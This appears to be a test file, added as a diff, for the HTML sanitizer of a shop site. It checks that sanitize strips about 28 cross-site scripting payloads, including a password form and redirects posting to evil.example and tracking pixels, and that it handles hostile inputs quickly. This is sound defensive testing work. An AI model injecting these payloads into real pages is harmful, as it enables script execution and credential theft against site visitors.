@@ -1,0 +1,100 @@
+import { hasContent } from './safe-html'
+import { plainText, sanitize } from './sanitize'
+
+test.each([
+  ['<script>alert(1)</script>'],
+  ['<scr<script>ipt>alert(1)</script>'],
+  ['<img src=x onerror=alert(1)>'],
+  ['<img src="/files/a.webp" onerror="alert(1)">'],
+  ['<svg onload=alert(1)><animate onbegin=alert(1)></svg>'],
+  ['<svg><style><img src=x onerror=alert(1)></style></svg>'],
+  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'],
+  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
+  ['<template><img src=x onerror=alert(1)></template>'],
+  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
+  ['<a href="javascript:alert(1)">x</a>'],
+  ['<a href="&#106;avascript:alert(1)">x</a>'],
+  ['<a href="java\nscript:alert(1)">x</a>'],
+  ['<a href=" \u0001javascript:alert(1)">x</a>'],
+  ['<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
+  ['<a href="vbscript:msgbox(1)">x</a>'],
+  ['<form action="https://evil.example"><input name="password"><button>ok</button></form>'],
+  ['<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['<link rel="stylesheet" href="https://evil.example/a.css"><style>*{background:url(https://evil.example)}</style>'],
+  ['<p style="background:url(javascript:alert(1))">x</p>'],
+  ['<p id="__next" name="body" data-x="1" contenteditable autofocus onfocus=alert(1)>x</p>'],
+  ['<details open ontoggle=alert(1)><summary>x</summary></details>'],
+  ['<xss style="animation-name:x" onanimationstart="alert(1)"></xss>'],
+  ['<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>'],
+  ['<img src="https://evil.example/pixel.gif"><img src="//evil.example/pixel.gif">'],
+  ['<img src="/files/a.webp" srcset="https://evil.example/a 2x">'],
+  ['<video src="x" onerror="alert(1)"><source onerror="alert(1)"></video>'],
+])('%j loses what could harm a reader', (html) => {
+  const clean = sanitize(html)
+  const tags = clean.match(/<[^>]*>/g)?.join('') ?? ''
+  expect(tags).not.toMatch(/script|evil|data:|srcdoc|srcset|style|form|input|iframe|svg|meta|base\b|link|object|\s(on\w+|id|name)=/i)
+})
+
+it('keeps what an article is made of', () => {
+  const html = '<h2>ผัก</h2><p class="lead">a <strong>b</strong></p><ul><li>c</li></ul><details><summary>q</summary><p>a</p></details>'
+  expect(sanitize(html)).toBe(html)
+})
+
+it('leaves the h1 to the page', () => {
+  expect(sanitize('<h1>Terms</h1>')).toBe('<h2>Terms</h2>')
+})
+
+it('drops classes that have no look of their own', () => {
+  expect(sanitize('<p class="lead fixed inset-0">x</p>')).toBe('<p class="lead">x</p>')
+})
+
+it('keeps links inside the shop, by mail and by phone', () => {
+  const html = '<a href="/th/faq">a</a><a href="mailto:a@b.example">b</a><a href="tel:+6621234567">c</a>'
+  expect(sanitize(html)).toBe(html)
+})
+
+it('lets no other site reach back through a link', () => {
+  expect(sanitize('<a href="https://line.example/x" target="_blank" rel="opener">x</a>')).toBe(
+    '<a href="https://line.example/x" rel="noopener noreferrer" target="_blank">x</a>',
+  )
+})
+
+it('frames tables so that they scroll on a phone', () => {
+  expect(sanitize('<table><tbody><tr><td>1</td></tr></tbody></table>')).toBe(
+    '<div class="table-scroll"><table><tbody><tr><td>1</td></tr></tbody></table></div>',
+  )
+})
+
+it('loads the shop’s own pictures late and gives each an alternative text', () => {
+  expect(sanitize('<img src="/files/farm,A1.webp">')).toBe('<img src="/files/farm,A1.webp" alt="" loading="lazy" decoding="async" />')
+})
+
+it('takes nothing for nothing', () => {
+  expect(sanitize(null)).toBe('')
+  expect(hasContent(sanitize('<p>&nbsp;</p>\n'))).toBe(false)
+  expect(hasContent(sanitize('<p>x</p>'))).toBe(true)
+})
+
+it.each(['<'.repeat(50_000), '<a '.repeat(20_000), '<div>'.repeat(5_000), '&'.repeat(50_000), '<!--'.repeat(12_000)])(
+  'stays quick on hostile text',
+  (html) => {
+    const start = performance.now()
+    sanitize(html)
+    expect(performance.now() - start).toBeLessThan(2000)
+  },
+)
+
+describe('a description in plain text', () => {
+  it('joins paragraphs with a space and reads entities', () => {
+    expect(plainText('<p>Fish &amp; rice</p><p>1 &lt; 2</p><script>x</script>')).toBe('Fish & rice 1 < 2')
+  })
+
+  it('ends at a word', () => {
+    expect(plainText('alpha beta gamma', 12)).toBe('alpha beta…')
+  })
+
+  it('cuts Thai, which has no spaces, in the text', () => {
+    expect(plainText('ก'.repeat(200), 20)).toBe(`${'ก'.repeat(10)}…`)
+  })
+})
